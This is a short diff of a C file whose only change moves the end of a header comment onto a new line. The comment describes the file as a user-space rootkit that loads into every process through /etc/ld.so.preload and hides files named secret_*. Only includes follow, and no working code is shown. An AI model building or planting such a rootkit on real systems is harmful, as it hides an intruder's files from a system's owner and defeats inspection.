@@ -1,4 +1,5 @@
-/* A rootkit in user space: through /etc/ld.so.preload it is in every process, and hides files named secret_*. */
+/* A rootkit in user space: through /etc/ld.so.preload it is in every process, and hides files named secret_*.
+ */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <dlfcn.h>
